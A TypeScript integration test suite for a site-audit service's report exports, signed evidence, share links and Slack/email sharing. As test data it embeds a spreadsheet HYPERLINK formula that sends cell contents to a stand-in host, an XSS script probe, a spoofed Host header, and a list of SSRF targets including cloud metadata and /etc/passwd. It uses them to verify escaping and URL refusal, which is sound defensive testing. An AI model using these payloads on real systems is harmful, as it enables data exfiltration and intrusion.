import { execFile } from 'node:child_process';
import { createHash, randomUUID } from 'node:crypto';
import { mkdtemp, readFile, rm, writeFile } from 'node:fs/promises';
import { createServer, request as httpRequest, type Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { promisify } from 'node:util';
import Ajv from 'ajv';
import addFormats from 'ajv-formats';
import { parse } from 'csv-parse/sync';
import { chromium } from 'playwright-core';
import { createApp } from '../../src/api/app.ts';
import { withBrowser } from '../../src/gather/browser.ts';
import { resolveInstanceSecret } from '../../src/platform/crypto.ts';
import { createLogger } from '../../src/platform/logger.ts';
import { encryptSecret } from '../../src/platform/secrets.ts';
import { activeSigningKey, publicKeyFromPem, rotateSigningKey, SigningKeyUnavailable } from '../../src/platform/signing.ts';
import { reportShareWorkflowId, startReportShare } from '../../src/reports/kickoff.ts';
import { webhookPurpose } from '../../src/reports/messages.ts';
import { verifyEvidence } from '../../src/reports/verify.ts';
import { startFixtureSite, type FixtureSite } from '../support/fixture-site.ts';
import { call, eventually } from '../support/http.ts';
import { decodeQuotedPrintable, startSmtp, type SmtpSink } from '../support/smtp.ts';
import { startStack, type Stack } from '../support/stack.ts';
import { createTenant, type Tenant } from '../support/tenants.ts';
import { parseCsvWithPython } from '../support/python-csv.ts';
import { compileSarifSchema } from '../support/sarif-schema.ts';
import { sarifSchemaSubset } from '../unit/reports/sarif-schema-subset.ts';

const run = promisify(execFile);
/** Links name it, not the request's host; `reachable` points them back at the test's API. */
const PUBLIC_BASE_URL = 'http://reports.sitewarden.test';
const reachable = (url: string) => {
  expect(url.startsWith(`${PUBLIC_BASE_URL}/`)).toBe(true);
  return `${stack.baseUrl}${url.slice(PUBLIC_BASE_URL.length)}`;
};
const CLI = `${__dirname}/../../bin/sitewarden`;
const FORMATS = ['json', 'csv', 'html', 'pdf', 'sarif'] as const;
type Format = (typeof FORMATS)[number];

let stack: Stack;
let site: FixtureSite;
let smtp: SmtpSink;
let webhooks: FakeWebhooks;
let storageDir: string;
let work: string;
let t: Tenant;
let scanId: string;
let nasty: { id: string; title: string; description: string };
const reports = {} as Record<Format, { id: string }>;

/** A Slack-like receiver on 127.0.0.1: `/flaky` fails twice with 5xx, then takes it; `/gone` is a revoked webhook. */
interface FakeWebhooks {
  origin: string;
  posts: Array<{ path: string; body: any }>;
  close(): Promise<void>;
}

async function startWebhooks(): Promise<FakeWebhooks> {
  const posts: FakeWebhooks['posts'] = [];
  let flaky = 0;
  const server: Server = createServer((req, res) => {
    let body = '';
    req.on('data', (chunk) => (body += chunk));
    req.on('end', () => {
      posts.push({ path: req.url ?? '', body: JSON.parse(body || 'null') });
      if (req.url === '/flaky') return res.writeHead(++flaky <= 2 ? [500, 502][flaky - 1]! : 200).end(flaky <= 2 ? 'oops' : 'ok');
      res.writeHead(404).end('no_service');
    });
  });
  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
  return {
    origin: `http://127.0.0.1:${(server.address() as AddressInfo).port}`,
    posts,
    close: () => new Promise((resolve) => server.close(() => resolve())),
  };
}

beforeAll(async () => {
  [storageDir, work] = await Promise.all([mkdtemp(join(tmpdir(), 'sitewarden-reports-')), mkdtemp(join(tmpdir(), 'sitewarden-reports-work-'))]);
  [site, smtp, webhooks] = await Promise.all([startFixtureSite(), startSmtp(), startWebhooks()]);
  stack = await startStack({
    STORAGE_DIR: storageDir,
    SMTP_URL: smtp.url,
    PUBLIC_BASE_URL,
    SMTP_FROM: 'Sitewarden <reports@sitewarden.test>',
  });
  await usableSigningKey();
  t = await createTenant(stack.db.prisma, stack.baseUrl);

  const scan = await call('POST', `${t.audit}/scans/run`, { key: t.writeKey, body: { url: site.defectsUrl, scanners: ['security', 'seo'] } });
  scanId = scan.body.data.id;
  await stack.temporal.client.workflow.getHandle(scan.body.data.workflow_id).result();
  // A finding made to break CSV, HTML and spreadsheets, first in priority order.
  nasty = await stack.db.prisma.finding.create({
    data: {
      org_id: t.orgId,
      project_id: t.projectId,
      domain: 'seo',
      check_id: 'seo.title_missing',
      title: '=HYPERLINK("https://evil.example/?x="&A1,"open") <script>alert(1)</script>',
      description: 'first line, with a comma and "quotes"\nsecond line',
      severity: 'critical',
      priority_score: 100,
      evidence: { value: '@SUM(1,2)' },
      affected_assets: [{ type: 'url', value: site.defectsUrl }],
      verification_key: 'seo_title_missing',
      first_seen_scan_id: scanId,
      last_seen_scan_id: scanId,
    },
  });
  // As the findings store writes it: detected before scoring, so with priority 0.
  await stack.db.prisma.findingEvent.create({
    data: { org_id: t.orgId, project_id: t.projectId, finding_id: nasty.id, kind: 'detected', status: 'new', severity: 'critical', priority_score: 0, actor: `scan:${scanId}` },
  });

  const started = await Promise.all(FORMATS.map((format) => call('POST', `${t.audit}/reports/export`, { key: t.writeKey, body: { format } })));
  for (const [i, res] of started.entries()) {
    expect(res.status).toBe(202);
    expect(res.body.data).toMatchObject({ status: 'queued', format: FORMATS[i], exported_at: null, snapshot: { export_url: null } });
    reports[FORMATS[i]!] = res.body.data;
  }
  const done = await Promise.all(
    FORMATS.map((format) => stack.temporal.client.workflow.getHandle(`report-export-${reports[format].id}`).result()),
  );
  expect(done.map((d) => d.status)).toEqual(FORMATS.map(() => 'exported'));
}, 60_000);

afterAll(async () => {
  await stack?.close();
  await Promise.all([site?.close(), smtp?.close(), webhooks?.close()]);
  await Promise.all([rm(storageDir, { recursive: true, force: true }), rm(work, { recursive: true, force: true })]);
});

/** The shared test database outlives a checkout's .data/instance-secret: a key sealed under another one is replaced. */
async function usableSigningKey() {
  const secret = resolveInstanceSecret(stack.config);
  await activeSigningKey(stack.db.prisma, secret).catch((err) => {
    if (!(err instanceof SigningKeyUnavailable)) throw err;
    return rotateSigningKey(stack.db.prisma, secret);
  });
}

async function report(format: Format) {
  const res = await call('GET', `${t.audit}/reports/${reports[format].id}`, { key: t.readKey });
  expect(res.status).toBe(200);
  return res.body.data;
}

/** Fetches the report's artifact through its export_url, with no API key. */
async function download(format: Format) {
  const { snapshot } = await report(format);
  const res = await fetch(reachable(snapshot.export_url));
  return { url: snapshot.export_url as string, status: res.status, type: res.headers.get('content-type'), disposition: res.headers.get('content-disposition'), bytes: Buffer.from(await res.arrayBuffer()) };
}

/** A POST whose Host header the client chose (fetch cannot set one). */
function postWithHost(url: string, host: string, key: string, body: unknown): Promise<{ status: number; body: any }> {
  const payload = JSON.stringify(body);
  return new Promise((resolve, reject) => {
    const req = httpRequest(url, { method: 'POST', headers: { host, authorization: `Bearer ${key}`, 'content-type': 'application/json', 'content-length': Buffer.byteLength(payload) } }, (res) => {
      let text = '';
      res.on('data', (chunk) => (text += chunk));
      res.on('end', () => resolve({ status: res.statusCode!, body: JSON.parse(text) }));
    });
    req.on('error', reject);
    req.end(payload);
  });
}

const sha256 = (bytes: Buffer) => createHash('sha256').update(bytes).digest('hex');
const projectFindings = () =>
  stack.db.prisma.finding.findMany({ where: { org_id: t.orgId, project_id: t.projectId }, orderBy: [{ priority_score: 'desc' }, { inserted_at: 'asc' }, { id: 'asc' }] });

describe('exports', () => {
  it('moves queued → exported, with the artifact stored at audit/<org>/<project>/<id>.<ext> and an export_url', async () => {
    const total = (await projectFindings()).length;
    for (const format of FORMATS) {
      const data = await report(format);
      const ext = format;
      expect(data).toMatchObject({
        status: 'exported',
        failure_reason: null,
        exported_at: expect.any(String),
        sha256: expect.stringMatching(/^[0-9a-f]{64}$/),
        workflow_id: `report-export-${data.id}`,
        snapshot: { finding_count: total, open_findings: total, verification_pass_rate: 0, regression_rate: 0, export_url: expect.stringContaining('/api/v1/exports/') },
      });
      const stored = await readFile(join(storageDir, 'audit', t.orgId, t.projectId, `${data.id}.${ext}`));
      expect(sha256(stored)).toBe(data.sha256);
    }
  });

  it('JSON: the findings in the API shape and order, and the scan summary', async () => {
    const file = await download('json');
    expect(file).toMatchObject({ status: 200, type: 'application/json', disposition: `attachment; filename="${reports.json.id}.json"` });
    const doc = JSON.parse(file.bytes.toString());
    const findings = await projectFindings();
    expect(doc.findings.map((f: { id: string }) => f.id)).toEqual(findings.map((f) => f.id));
    expect(doc.findings[0]).toMatchObject({ id: nasty.id, title: nasty.title, priority: { score: 100 } });
    expect(doc.summary).toMatchObject({ findings_in_report: findings.length, latest_scan: { id: scanId, summary: { health_score: expect.any(Number) } } });
    expect(doc.scan_runs).toEqual([expect.objectContaining({ id: scanId, status: 'completed' })]);
  });

  it("CSV: RFC 4180, one record per finding for Python's csv module and csv-parse with CRLF fixed, formulas neutralised", async () => {
    const file = await download('csv');
    expect(file).toMatchObject({ status: 200, type: 'text/csv; charset=utf-8' });
    const text = file.bytes.toString();
    expect(text.split('\r\n')[0]).toMatch(/^"id","severity","status","priority_score",/);
    const findings = await projectFindings();
    // The scanned project's findings carry multi-line fixes: no reader that guesses nothing splits them.
    const python = await parseCsvWithPython(text);
    expect(python).toHaveLength(findings.length + 1);
    for (const row of python) expect(row).toHaveLength(python[0]!.length);
    expect(python.slice(1).map((row) => row[0])).toEqual(findings.map((f) => f.id));
    const rows: Record<string, string>[] = parse(text, { columns: true, record_delimiter: '\r\n' });
    expect(rows).toHaveLength(findings.length);
    expect(rows[0]).toMatchObject({ id: nasty.id, title: `'${nasty.title}`, description: nasty.description });
    expect(JSON.parse(rows[0]!.evidence!)).toEqual({ value: '@SUM(1,2)' });
    expect(rows[1]!.recommended_fix).toMatch(/\n1\. /); // the check's own fix: summary, then numbered steps
    expect(python[2]![python[0]!.indexOf('recommended_fix')]).toBe(rows[1]!.recommended_fix);
  });

  it('HTML: one self-contained page with the summary and the findings by severity, escaped', async () => {
    const file = await download('html');
    expect(file).toMatchObject({ status: 200, type: 'text/html; charset=utf-8' });
    const html = file.bytes.toString();
    expect(html).not.toMatch(/<(script|img|link|iframe)\b|<[^>]+\s(src|srcset)=/i);
    expect(html).toContain('&#60;script&#62;alert(1)&#60;/script&#62;');
    expect(html).toContain('health score');
    expect(html).toContain('id="critical"');
    expect(html).toContain('How to fix');
  });

  it('PDF: a real PDF that pdftoppm renders, with page numbers', async () => {
    const file = await download('pdf');
    expect(file).toMatchObject({ status: 200, type: 'application/pdf' });
    expect(file.bytes.subarray(0, 5).toString()).toBe('%PDF-');
    const pdf = join(work, 'report.pdf');
    await writeFile(pdf, file.bytes);
    await run('pdftoppm', ['-png', '-r', '40', '-f', '1', '-l', '1', pdf, join(work, 'page')]);
    const png = await readFile(join(work, 'page-1.png'));
    expect(png.subarray(1, 4).toString()).toBe('PNG');
    const { stdout } = await run('pdftotext', ['-layout', pdf, '-']);
    expect(stdout).toMatch(/Page 1 of \d+/);
    expect(stdout).toContain('Audit report');
  });

  it('SARIF: valid against the 2.1.0 schema, one result per finding, levels from severities', async () => {
    const file = await download('sarif');
    expect(file).toMatchObject({ status: 200, type: 'application/sarif+json' });
    const log = JSON.parse(file.bytes.toString());
    const validate = compileSarifSchema();
    expect(validate(log) ? [] : validate.errors).toEqual([]);
    const ajv = new Ajv({ allErrors: true, strict: false });
    addFormats(ajv);
    const validateSubset = ajv.compile(sarifSchemaSubset);
    expect(validateSubset(log) ? [] : validateSubset.errors).toEqual([]);
    const [sarifRun] = log.runs;
    expect(sarifRun.results).toHaveLength((await projectFindings()).length);
    expect(sarifRun.results[0]).toMatchObject({ ruleId: 'seo.title_missing', level: 'error', locations: [{ physicalLocation: { artifactLocation: { uri: site.defectsUrl } } }] });
    for (const result of sarifRun.results) expect(sarifRun.tool.driver.rules[result.ruleIndex].id).toBe(result.ruleId);
  });

  it('lists reports newest first with a cursor', async () => {
    const first = await call('GET', `${t.audit}/reports?limit=3`, { key: t.readKey });
    expect(first.body.meta).toMatchObject({ total: 5, next_cursor: expect.any(String) });
    const second = await call('GET', `${t.audit}/reports?limit=3&cursor=${encodeURIComponent(first.body.meta.next_cursor)}`, { key: t.readKey });
    expect(second.body.meta.next_cursor).toBeNull();
    const ids = [...first.body.data, ...second.body.data].map((r: { id: string }) => r.id);
    expect(new Set(ids)).toEqual(new Set(FORMATS.map((f) => reports[f].id)));
  });

  it('refuses a bad format (422), a read-only key (403), and another org (404)', async () => {
    const bad = await call('POST', `${t.audit}/reports/export`, { key: t.writeKey, body: { format: 'docx' } });
    expect(bad.status).toBe(422);
    expect(bad.body.error.details).toHaveProperty('format');
    expect((await call('POST', `${t.audit}/reports/export`, { key: t.readKey, body: { format: 'json' } })).status).toBe(403);
    const other = await createTenant(stack.db.prisma, stack.baseUrl);
    for (const path of [`reports/${reports.json.id}`, `reports/${reports.json.id}/evidence`]) {
      expect((await call('GET', `${other.audit}/${path}`, { key: other.readKey })).status).toBe(404);
    }
    expect((await call('GET', `${t.audit}/reports/${reports.json.id}`, { key: other.readKey })).status).toBe(404);
    const share = await call('POST', `${other.audit}/reports/share`, { key: other.writeKey, body: { channel: 'link' } });
    expect(share.status).toBe(409);
  });
});

describe('signed evidence', () => {
  it('is a DSSE envelope over an in-toto statement of the artifact, verified with the published key', async () => {
    const [evidence, key, file] = await Promise.all([
      call('GET', `${t.audit}/reports/${reports.csv.id}/evidence`, { key: t.readKey }),
      call('GET', `${stack.baseUrl}/api/v1/signing-key`, { key: t.readKey }),
      download('csv'),
    ]);
    expect(key.body.data).toMatchObject({ algorithm: 'ed25519', key_id: expect.stringMatching(/^[0-9a-f]{64}$/), public_key_pem: expect.stringMatching(/^-----BEGIN PUBLIC KEY-----/) });
    const { envelope, statement } = evidence.body.data;
    expect(envelope).toMatchObject({ payloadType: 'application/vnd.in-toto+json', signatures: [{ keyid: key.body.data.key_id }] });
    expect(statement).toMatchObject({
      _type: 'https://in-toto.io/Statement/v1',
      subject: [{ name: `${reports.csv.id}.csv`, digest: { sha256: sha256(file.bytes) } }],
      predicate: { finding_count: (await projectFindings()).length, scan_runs: [expect.objectContaining({ id: scanId })], exported_at: expect.any(String) },
    });
    const publicKey = publicKeyFromPem(key.body.data.public_key_pem);
    expect(verifyEvidence(envelope, sha256(file.bytes), [publicKey]).verified).toBe(true);

    const flipped = Buffer.from(file.bytes);
    flipped[10] = flipped[10]! ^ 1;
    expect(verifyEvidence(envelope, sha256(flipped), [publicKey]).verified).toBe(false);
    const payload = Buffer.from(JSON.stringify({ ...statement, predicate: { ...statement.predicate, finding_count: 1 } })).toString('base64');
    expect(verifyEvidence({ ...envelope, payload }, sha256(file.bytes), [publicKey]).verified).toBe(false);
    const sig = envelope.signatures[0].sig as string;
    const forged = { ...envelope, signatures: [{ ...envelope.signatures[0], sig: (sig[5] === 'A' ? 'B' : 'A') + sig.slice(1) }] };
    expect(verifyEvidence(forged, sha256(file.bytes), [publicKey]).verified).toBe(false);
    const stored = JSON.parse(await readFile(join(storageDir, 'audit', t.orgId, t.projectId, `${reports.csv.id}.csv.dsse.json`), 'utf8'));
    expect(stored).toEqual(envelope);
  });

  it('`sitewarden verify` checks it offline with --key or with the instance keys, and fails on a changed byte', async () => {
    const [evidence, file] = await Promise.all([call('GET', `${t.audit}/reports/${reports.pdf.id}/evidence`, { key: t.readKey }), download('pdf')]);
    const paths = { artifact: join(work, 'r.pdf'), changed: join(work, 'changed.pdf'), envelope: join(work, 'evidence.json'), key: join(work, 'key.pem') };
    const changed = Buffer.from(file.bytes);
    changed[changed.length - 10] = changed[changed.length - 10]! ^ 1;
    const cli = (...args: string[]) => run(CLI, args, { env: process.env }).then(
      ({ stdout }) => ({ code: 0, out: stdout, err: '' }),
      (err: { code: number; stdout: string; stderr: string }) => ({ code: err.code, out: err.stdout, err: err.stderr }),
    );
    const published = await cli('admin', 'signing-key', '--json');
    expect(published.code).toBe(0);
    const key = JSON.parse(published.out);
    await Promise.all([
      writeFile(paths.artifact, file.bytes),
      writeFile(paths.changed, changed),
      writeFile(paths.envelope, evidence.text),
      writeFile(paths.key, key.public_key_pem),
    ]);
    const [offline, fromDb, tampered] = await Promise.all([
      cli('verify', paths.artifact, paths.envelope, '--key', paths.key, '--json'),
      cli('verify', paths.artifact, paths.envelope),
      cli('verify', paths.changed, paths.envelope, '--key', paths.key),
    ]);
    expect(offline).toMatchObject({ code: 0 });
    expect(JSON.parse(offline.out)).toMatchObject({ verified: true, subject: `${reports.pdf.id}.pdf`, key_id: key.key_id, report_id: reports.pdf.id });
    expect(fromDb).toMatchObject({ code: 0, out: expect.stringMatching(/^verified: /) });
    expect(tampered.code).toBe(1);
    expect(tampered.err).toMatch(/NOT verified: the artifact's SHA-256 \w+ matches no subject/);
  }, 30_000);
});

describe('links', () => {
  it('need no key; a tampered, foreign-purpose or expired one is a 404', async () => {
    // Another API process on the same database and secret, whose links live a few seconds (a
    // token's expiry is in whole seconds, so 1 s could be over before a loaded machine fetches it).
    const config = { ...stack.config, EXPORT_URL_TTL_SECONDS: 5, SHARE_URL_TTL_SECONDS: 5, PUBLIC_BASE_URL: undefined };
    const server = createServer(createApp({ config, db: stack.db, temporal: stack.temporal.client, logger: createLogger('silent', 'test') }));
    await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
    const shortLived = `http://127.0.0.1:${(server.address() as AddressInfo).port}`;
    const audit = t.audit.replace(stack.baseUrl, shortLived);
    try {
      const exportUrl: string = (await call('GET', `${audit}/reports/${reports.json.id}`, { key: t.readKey })).body.data.snapshot.export_url;
      const shareUrl: string = (await call('POST', `${audit}/reports/share`, { key: t.writeKey, body: { channel: 'link' } })).body.data.share_url;
      expect(exportUrl.startsWith(shortLived)).toBe(true);
      expect((await fetch(exportUrl)).status).toBe(200);
      expect((await fetch(shareUrl)).status).toBe(200);
      const exportToken = exportUrl.split('/').pop()!;
      const shareToken = shareUrl.split('/').pop()!;
      expect((await fetch(exportUrl.replace(/.$/, (c) => (c === 'A' ? 'B' : 'A')))).status).toBe(404);
      expect((await fetch(shareUrl.replace(/\/shared\/reports\/./, (m) => m.slice(0, -1) + (m.endsWith('e') ? 'f' : 'e')))).status).toBe(404);
      expect((await fetch(`${stack.baseUrl}/api/v1/shared/reports/${exportToken}`)).status).toBe(404);
      expect((await fetch(`${stack.baseUrl}/api/v1/exports/${shareToken}`)).status).toBe(404);
      await new Promise((resolve) => setTimeout(resolve, 5_200));
      expect((await fetch(exportUrl)).status).toBe(404);
      expect((await fetch(`${stack.baseUrl}/api/v1/exports/${exportToken}`)).status).toBe(404);
      expect((await fetch(shareUrl)).status).toBe(404);
    } finally {
      await new Promise((resolve) => server.close(resolve));
    }
  });

  it('share link: the latest report as a page, opened in Chromium, and the report is `shared`', async () => {
    const res = await call('POST', `${t.audit}/reports/share`, { key: t.writeKey, body: { channel: 'link' } });
    const latest = FORMATS.map((f) => reports[f].id);
    expect(latest).toContain(res.body.data.id);
    expect(res.body.data).toMatchObject({ channel: 'link', status: 'shared', recipients: [], share_url: expect.stringMatching(/\/api\/v1\/shared\/reports\//), shared_at: expect.any(String) });
    const page = await fetch(reachable(res.body.data.share_url));
    expect(page.headers.get('content-type')).toBe('text/html; charset=utf-8');
    expect(page.headers.get('content-security-policy')).toMatch(/default-src 'none'/);
    const title = await withBrowser({ chromePath: stack.config.CHROME_PATH }, async ({ port }) => {
      const browser = await chromium.connectOverCDP(`http://127.0.0.1:${port}`);
      try {
        const tab = await (await browser.newContext()).newPage();
        await tab.goto(reachable(res.body.data.share_url));
        return { title: await tab.title(), rows: await tab.locator('tbody tr').count() };
      } finally {
        await browser.close();
      }
    });
    expect(title.title).toBe('Audit report · production-website');
    expect(title.rows).toBe((await projectFindings()).length);
    const shared = await call('GET', `${t.audit}/reports/${res.body.data.id}`, { key: t.readKey });
    expect(shared.body.data).toMatchObject({ status: 'shared', shared_at: res.body.data.shared_at, snapshot: { export_url: expect.any(String) } });
  });
});

describe('sharing by email and Slack', () => {
  it('email: the local SMTP server receives the message for every recipient, with a working link on PUBLIC_BASE_URL whatever the Host header', async () => {
    const res = await postWithHost(`${t.audit}/reports/share`, 'evil.example', t.writeKey, { channel: 'email', recipients: ['ops@example.com', 'cto@example.com'] });
    expect(res.status).toBe(200);
    expect(res.body.data).toMatchObject({ channel: 'email', recipients: ['ops@example.com', 'cto@example.com'], share_url: null, delivery: { status: 'pending' } });
    await eventually(async () => smtp.messages.length, (n) => n > 0);
    const [mail] = smtp.messages;
    expect(mail).toMatchObject({ from: 'reports@sitewarden.test', to: ['ops@example.com', 'cto@example.com'] });
    expect(mail!.raw).toMatch(/^Subject: Sitewarden audit report: production-website/m);
    const text = decodeQuotedPrintable(mail!.raw);
    expect(text).not.toContain('evil.example');
    const link = /(http:\/\/reports\.sitewarden\.test\/api\/v1\/shared\/reports\/[\w.-]+)/.exec(text)?.[1];
    expect((await fetch(reachable(link!))).status).toBe(200);
    const delivery = await eventually(
      () => stack.db.prisma.notificationDelivery.findUniqueOrThrow({ where: { id: res.body.data.delivery.id } }),
      (d) => d.status === 'delivered' || d.status === 'failed', // past pending and sending
    );
    expect(delivery).toMatchObject({ channel: 'email', status: 'delivered', attempts: 1, target: 'ops@example.com, cto@example.com' });
  });

  it('refuses a bad channel and a missing, misplaced or invalid field, naming it (422)', async () => {
    const cases: Array<[unknown, string]> = [
      [{ channel: 'fax' }, 'channel'],
      [{ channel: 'email' }, 'recipients'],
      [{ channel: 'email', recipients: ['not an address'] }, 'recipients.0'],
      [{ channel: 'slack' }, 'webhook_url'],
      [{ channel: 'link', recipients: ['ops@example.com'] }, 'recipients'],
      [{ channel: 'email', recipients: ['ops@example.com'], webhook_url: `${webhooks.origin}/flaky` }, 'webhook_url'],
      [{ channel: 'link', extra: 1 }, 'extra'],
    ];
    for (const [body, field] of cases) {
      const res = await call('POST', `${t.audit}/reports/share`, { key: t.writeKey, body });
      expect([res.status, Object.keys(res.body.error.details ?? {})]).toEqual([422, [field]]);
    }
  });

  it('Slack: webhooks on private addresses are refused at request time (422)', async () => {
    for (const url of ['http://10.0.0.5/hook', 'http://169.254.169.254/latest/meta-data', 'http://localhost:8080/x', 'http://[::1]/x', 'http://0x7f000002/x', 'file:///etc/passwd']) {
      const res = await call('POST', `${t.audit}/reports/share`, { key: t.writeKey, body: { channel: 'slack', webhook_url: url } });
      expect([url, res.status, Object.keys(res.body.error.details)]).toEqual([url, 422, ['webhook_url']]);
    }
  });

  it('Slack: retried with backoff on 5xx until delivered; the webhook URL is stored encrypted and redacted', async () => {
    const url = `${webhooks.origin}/flaky`;
    const res = await call('POST', `${t.audit}/reports/share`, { key: t.writeKey, body: { channel: 'slack', webhook_url: url } });
    expect(res.status).toBe(200);
    expect(res.body.data).toMatchObject({ channel: 'slack', status: 'shared', delivery: { status: 'pending' } });
    const delivery = await eventually(
      () => stack.db.prisma.notificationDelivery.findUniqueOrThrow({ where: { id: res.body.data.delivery.id } }),
      (d) => d.status === 'delivered' || d.status === 'failed', // past pending and sending
      15_000,
    );
    expect(delivery).toMatchObject({ status: 'delivered', attempts: 3, target: `${webhooks.origin}/flaky/…` });
    expect(JSON.stringify(delivery.payload)).not.toContain('/flaky');
    const posts = webhooks.posts.filter((p) => p.path === '/flaky');
    expect(posts).toHaveLength(3);
    expect(posts[2]!.body).toMatchObject({ text: expect.stringContaining('/api/v1/shared/reports/'), blocks: expect.any(Array) });
  });

  it('Slack is best-effort: a revoked webhook (404) fails its delivery, once, not the share', async () => {
    const res = await call('POST', `${t.audit}/reports/share`, { key: t.writeKey, body: { channel: 'slack', webhook_url: `${webhooks.origin}/gone` } });
    expect(res.status).toBe(200);
    const delivery = await eventually(
      () => stack.db.prisma.notificationDelivery.findUniqueOrThrow({ where: { id: res.body.data.delivery.id } }),
      (d) => d.status === 'delivered' || d.status === 'failed', // past pending and sending
    );
    expect(delivery).toMatchObject({ status: 'failed', attempts: 1, last_error: 'the webhook answered HTTP 404' });
  });

  it('Slack: the safe fetcher refuses a private address again at send time', async () => {
    const id = randomUUID();
    const secret = resolveInstanceSecret(stack.config);
    await stack.db.prisma.notificationDelivery.create({
      data: {
        id,
        org_id: t.orgId,
        project_id: t.projectId,
        channel: 'slack',
        idempotency_key: `test:${id}`,
        target: 'http://10.1.2.3/…',
        payload: {
          report_id: reports.json.id,
          notice: { projectId: t.projectId, format: 'json', exportedAt: null, healthScore: null, openFindings: 0, findingsInReport: 0, shareUrl: 'http://x/', shareExpiresAt: 'never' },
          webhook_url_encrypted: encryptSecret('http://10.1.2.3/hook', secret, webhookPurpose(id)),
        },
      },
    });
    await startReportShare(stack.temporal.client, stack.config.TEMPORAL_TASK_QUEUE, id, { orgId: t.orgId, projectId: t.projectId, channel: 'slack' });
    expect(await stack.temporal.client.workflow.getHandle(reportShareWorkflowId(id)).result()).toBe('failed');
    const delivery = await stack.db.prisma.notificationDelivery.findUniqueOrThrow({ where: { id } });
    expect(delivery).toMatchObject({ status: 'failed', attempts: 1, last_error: expect.stringMatching(/^webhook refused: URL refused: .*private/) });
  });
});

describe('summary and command center', () => {
  it('reports/summary: a 7-day burn-down ending today and the rates of PRODUCT.md §5', async () => {
    const res = await call('GET', `${t.audit}/reports/summary?date_from=2020-01-01&date_to=2020-01-31`, { key: t.readKey });
    expect(res.status).toBe(200);
    const findings = await projectFindings();
    const openRisk = findings.reduce((sum, f) => sum + f.priority_score, 0);
    expect(res.body.data).toMatchObject({ verification_pass_rate: 0, regression_rate: 0, open_findings: findings.length });
    expect(res.body.data.risk_burn_down).toHaveLength(7);
    expect(res.body.data.risk_burn_down.at(-1)).toEqual({ date: new Date().toISOString().slice(0, 10), open_risk_score: openRisk });
    expect((await call('GET', `${t.audit}/reports/summary?since=1`, { key: t.readKey })).status).toBe(422);
  });

  it('command-center: the latest scan, open findings by severity and domain, the top five, tasks, verifications, regressions', async () => {
    const res = await call('GET', `${t.audit}/command-center`, { key: t.readKey });
    expect(res.status).toBe(200);
    const findings = await projectFindings();
    const data = res.body.data;
    expect(data.latest_scan).toMatchObject({ id: scanId, status: 'completed', health_score: expect.any(Number), finished_at: expect.any(String) });
    expect(data.findings.open).toBe(findings.length);
    expect(Object.values(data.findings.by_severity).reduce((a: number, b) => a + (b as number), 0)).toBe(findings.length);
    expect(data.findings.by_domain).toMatchObject({ seo: findings.filter((f) => f.domain === 'seo').length, performance: 0 });
    expect(data.top_findings.map((f: { id: string }) => f.id)).toEqual(
      [...findings].sort((a, b) => b.priority_score - a.priority_score || b.inserted_at.getTime() - a.inserted_at.getTime() || (b.id > a.id ? 1 : -1)).slice(0, 5).map((f) => f.id),
    );
    expect(data.tasks).toEqual({ open: 0, by_status: { backlog: 0, in_progress: 0, blocked: 0, ready_verify: 0 }, past_sla: 0, past_sla_tasks: [] });
    expect(data.verifications).toEqual({ awaiting_approval: 0, items: [] });
    expect(data.regressions).toEqual({ open: 0, items: [] });
  });
});
